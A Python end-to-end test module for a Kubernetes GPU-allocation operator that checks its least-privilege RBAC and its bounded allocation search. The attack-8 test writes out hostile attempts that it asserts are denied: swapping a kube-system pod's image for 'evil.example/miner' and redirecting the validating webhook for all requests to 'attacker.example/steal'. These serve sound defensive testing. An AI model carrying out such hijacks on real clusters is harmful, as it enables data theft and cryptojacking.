"""Least privilege and bounded search, tried as an attacker would (issue 22: attacks 8 and 9),
for the operator as deployed, against a real API server with the manifests' RBAC,
ValidatingAdmissionPolicies and webhooks (tests/e2e/hostile_privilege_helpers.py): it works
and preempts with its own rights, its token reaches only what it does, and its allocation
search is bounded. Agents and namespace users: test_hostile_privilege_agents.py.

After each attack (:meth:`Cluster.after_attack`): another pod still gets a device and is
bound, the operator restarts, and ``kdra check`` finds no violation in this test's namespace
or nodes.
"""

from __future__ import annotations

import json

from kdra.kube.core.podclaims import CLAIM_STATUSES_ANNOTATION
from tests.e2e.conftest import get_json
from tests.e2e.hostile_privilege_helpers import (
    OPERATOR,
    SEARCH_TIMEOUT,
    Cluster,
    apply,
    cluster,
    installed,
)
from tests.e2e.procs import wait_for

__all__ = ["cluster", "installed"]  # the module fixtures

AHEAD = 6
"""One-GPU claims ahead of the hostile pod's All claim: 16^6 assignments per node."""


# --------------------------------------------------------------------------- the operator


def test_the_operator_works_as_deployed(cluster: Cluster) -> None:
    """Its ServiceAccount, the manifests' RBAC and policies, its own webhooks: a pod gets a
    claim from a template, a device, and is bound (nothing the operator needs is denied)."""
    name = cluster.one_gpu_pod()
    pod = cluster.wait_bound(name)
    assert pod["spec"]["schedulerName"] == "kdra-scheduler"  # the mutating webhook
    assert pod["spec"]["nodeName"] in cluster.nodes
    claim = cluster.claim_of(name)
    assert claim["status"]["reservedFor"][0]["name"] == name
    webhooks = get_json(cluster.plane, "validatingwebhookconfiguration", "kdra-validating")
    assert all(w["clientConfig"]["caBundle"] != "Cg==" for w in webhooks["webhooks"])
    cluster.delete_pod(name)


def test_the_operator_preempts_as_deployed(cluster: Cluster) -> None:
    """Preemption (issue 27) with the operator's own rights: it lists PodDisruptionBudgets,
    evicts through the Eviction API and sets the preemptor's nominatedNodeName (the
    admission policy lets it change only that and PodScheduled in a pending pod's status)."""
    plane = cluster.plane
    low, high = f"low-{cluster.namespace}", f"high-{cluster.namespace}"
    apply(plane, {"apiVersion": "scheduling.k8s.io/v1", "kind": "PriorityClass",
                  "metadata": {"name": low}, "value": 10},
          {"apiVersion": "scheduling.k8s.io/v1", "kind": "PriorityClass",
           "metadata": {"name": high}, "value": 1000})
    hogs = [f"hog-{i}" for i in range(len(cluster.nodes))]
    try:
        for name in hogs:  # every GPU of every node, at a low priority
            pod = cluster.pod(name, [{"name": "gpu", "resourceClaimTemplateName": "all-gpus"}])
            pod["spec"]["priorityClassName"] = low
            apply(plane, pod)
            cluster.wait_bound(name)
        pod = cluster.pod("urgent", [{"name": "gpu", "resourceClaimTemplateName": "one-gpu"}])
        pod["spec"]["priorityClassName"] = high
        apply(plane, pod)
        nominated = wait_for(
            lambda: (p := cluster.get_pod("urgent")).get("status", {}).get(
                "nominatedNodeName") and p, timeout=60, what="urgent nominated")
        node = nominated["status"]["nominatedNodeName"]
        # Exactly one hog evicted (no kubelet here: it stays terminating), the one on the
        # nominated node.
        evicted = [h for h in hogs if cluster.get_pod(h)["metadata"].get("deletionTimestamp")]
        assert len(evicted) == 1, evicted
        assert cluster.get_pod(evicted[0])["spec"]["nodeName"] == node
        assert cluster.metric("kdra_preemption_victims_total") == 1
        cluster.delete_pod(evicted[0])  # the kubelet's part
        assert cluster.wait_bound("urgent")["spec"]["nodeName"] == node
    finally:
        for name in [*hogs, "urgent"]:
            cluster.delete_pod(name)
        plane.kubectl("delete", "priorityclass", low, high, "--ignore-not-found",
                      "--wait=false", check=False)
    wait_for(lambda: not cluster.allocations(), timeout=60, what="the GPUs released")


# --------------------------------------------------------------------------- attack 8


def test_attack_8_the_operators_token_reaches_only_what_the_operator_does(
        cluster: Cluster) -> None:
    plane = cluster.plane
    operator = cluster.who(OPERATOR)
    victim = {"apiVersion": "v1", "kind": "Pod",
              "metadata": {"name": f"victim-{cluster.namespace}", "namespace": "kube-system",
                           "labels": {"app": "victim"}},
              "spec": {"containers": [{"name": "c", "image": "registry.k8s.io/pause:3.10"}]}}
    apply(plane, victim)
    pod = victim["metadata"]["name"]
    try:
        # Patch a kube-system pod's image, labels, annotations or status (before: allowed).
        operator.denied("patch", "pod", pod, "-n", "kube-system", "-p", json.dumps(
            {"spec": {"containers": [{"name": "c", "image": "evil.example/miner"}]}}),
            says="kdra's operator may not change the spec of pod kube-system/" + pod)
        operator.denied("label", "pod", pod, "-n", "kube-system", "app=hijacked",
                        "--overwrite",
                        says="may change only kdra's annotations of pod kube-system/" + pod)
        operator.denied("annotate", "pod", pod, "-n", "kube-system", "anything=1",
                        says="may change only the annotation resource.kdra.dev/claim-statuses")
        operator.denied("annotate", "pod", pod, "-n", "kube-system",
                        f"{CLAIM_STATUSES_ANNOTATION}={{}}",
                        says="records claim names only on pods with the "
                             "resource.kdra.dev/claims annotation")
        code, answer = operator.request(
            "PATCH", f"/api/v1/namespaces/kube-system/pods/{pod}/status",
            {"status": {"conditions": [{"type": "PodScheduled", "status": "False"}]}})
        assert code == 403, answer
        assert ("writes the status only of pending pods with schedulerName kdra-scheduler"
                in answer), answer
        # Bind any pod to any node (before: allowed).
        binding = {"apiVersion": "v1", "kind": "Binding",
                   "metadata": {"name": pod, "namespace": "kube-system"},
                   "target": {"apiVersion": "v1", "kind": "Node", "name": cluster.nodes[0]}}
        operator.denied("create", "-f", "-", "--raw",
                        f"/api/v1/namespaces/kube-system/pods/{pod}/binding",
                        input=json.dumps(binding),
                        says="kdra's operator binds only pods with schedulerName "
                             "kdra-scheduler; pod kube-system/" + pod)
        assert not cluster.plane.kubectl(
            "get", "pod", pod, "-n", "kube-system", "-o", "jsonpath={.spec.nodeName}").stdout
        # Rewrite its own webhook configuration: every request, to an external URL.
        config = get_json(plane, "validatingwebhookconfiguration", "kdra-validating")
        hijacked = json.loads(json.dumps(config))
        for webhook in hijacked["webhooks"]:
            webhook["rules"] = [{"apiGroups": ["*"], "apiVersions": ["*"],
                                 "operations": ["*"], "resources": ["*/*"], "scope": "*"}]
            webhook["clientConfig"] = {"url": "https://attacker.example/steal",
                                       "caBundle": webhook["clientConfig"]["caBundle"]}
            webhook.pop("matchConditions", None)
        operator.denied("replace", "-f", "-", input=json.dumps(hijacked),
                        says="kdra's operator may change only the caBundle of kdra-validating")
        # ... while its CA bundle is its to keep current (changed, then put back).
        path = ("/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/"
                "kdra-validating")
        rotated = get_json(plane, "validatingwebhookconfiguration", "kdra-validating")
        original = [w["clientConfig"]["caBundle"] for w in rotated["webhooks"]]
        for webhook in rotated["webhooks"]:
            webhook["clientConfig"]["caBundle"] = "Cg=="
        code, answer = operator.request("PUT", path, rotated)
        assert code == 200, answer
        restored = json.loads(answer)
        for webhook, bundle in zip(restored["webhooks"], original, strict=True):
            webhook["clientConfig"]["caBundle"] = bundle
        code, answer = operator.request("PUT", path, restored)
        assert code == 200, answer
        # kdra's CRDs: it pointed their conversion at its own /convert at start, and may
        # change nothing else of them (their schemas, names, labels).
        crd = "resourceclaims.resource.kdra.dev"
        conversion = get_json(plane, "crd", crd)["spec"]["conversion"]["webhook"]
        assert conversion["clientConfig"]["url"].endswith("/convert")
        operator.denied("patch", "crd", crd, "--type=merge", "-p", json.dumps(
            {"spec": {"names": {"shortNames": ["kclaim", "stolen"]}}}),
            says=f"kdra's operator may change only spec.conversion of CRD {crd}")
        operator.denied("label", "crd", crd, "stolen=1",
                        says=f"kdra's operator may change only spec.conversion of CRD {crd}")
        assert operator("patch", "crd", crd, "--type=merge", "-p", json.dumps(
            {"spec": {"conversion": {"webhook": conversion}}})).returncode == 0
        # Its RBAC still has no wildcards and no pod deletion, creation or secrets elsewhere.
        for verb, resource in (("delete", "pods"), ("create", "pods"), ("get", "secrets")):
            assert plane.kubectl("auth", "can-i", verb, resource, "-n", "kube-system",
                                 as_user=OPERATOR, check=False).stdout.strip() == "no"
    finally:
        plane.kubectl("delete", "pod", pod, "-n", "kube-system", "--grace-period=0",
                      "--force", "--wait=false", check=False)
    cluster.after_attack()


# --------------------------------------------------------------------------- attack 9


def test_attack_9_a_search_that_tries_every_combination_is_bounded(cluster: Cluster) -> None:
    """Six one-GPU claims ahead of a claim for all GPUs, which they take first: no placement
    exists, and the search would try every assignment of the six (before: the one scheduling
    loop served nobody meanwhile, for minutes). Now: other pods are bound while it searches,
    it gives up at its deadline with AllocationSearchExhausted, and is retried later."""
    hostile = "hostile"
    claims = [*({"name": f"one-{i}", "resourceClaimTemplateName": "one-gpu"}
                for i in range(AHEAD)),
              {"name": "all", "resourceClaimTemplateName": "all-gpus"}]
    apply(cluster.plane, cluster.pod(hostile, claims))
    searching = 'kdra_scheduler_schedule_attempts_total{result="searching"}'
    wait_for(lambda: cluster.metric(searching) >= 1, timeout=60, interval=0.5,
             what="the hostile pod's search handed to the background")
    # Meanwhile other pods get devices and are bound, before the search gives up.
    others = [cluster.one_gpu_pod("meanwhile") for _ in range(3)]
    for name in others:
        cluster.wait_bound(name)
    assert cluster.condition(hostile).get("reason") != "AllocationSearchExhausted"
    condition = wait_for(
        lambda: (c := cluster.condition(hostile)).get("reason") == "AllocationSearchExhausted"
        and c, timeout=SEARCH_TIMEOUT + 90, interval=1, what="AllocationSearchExhausted")
    message = condition["message"]
    assert message.startswith(f"allocation search for claims '{hostile}-one-0-")
    assert (f"exhausted its budget (1000000000 steps, 500000000 per node, {SEARCH_TIMEOUT}s; "
            f"spent ") in message, message
    assert "without finding a placement; retrying later. 0/" in message
    events = get_json(cluster.plane, "events", "-n", cluster.namespace, "--field-selector",
                      f"involvedObject.name={hostile}")["items"]
    assert any(e["reason"] == "FailedScheduling" and "exhausted its budget" in e["message"]
               for e in events)
    assert cluster.metric('kdra_allocator_search_exhausted_total{limit="deadline"}') >= 1
    # The shape upstream stops at once: an All claim on a node where another pod holds a GPU.
    everything = "everything"
    held = cluster.get_pod(others[0])["spec"]["nodeName"]
    pod = cluster.pod(everything, [{"name": "all", "resourceClaimTemplateName": "all-gpus"}])
    pod["spec"]["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"][
        "nodeSelectorTerms"][0]["matchExpressions"][0]["values"] = [held]
    apply(cluster.plane, pod)
    reported = wait_for(lambda: (c := cluster.condition(everything)).get("reason") and c,
                        timeout=60, interval=0.5, what="the All pod reported")
    assert reported["reason"] == "Unschedulable"
    assert "matching devices partly allocated" in reported["message"]
    for name in (hostile, everything, *others):
        cluster.delete_pod(name)
    cluster.after_attack()
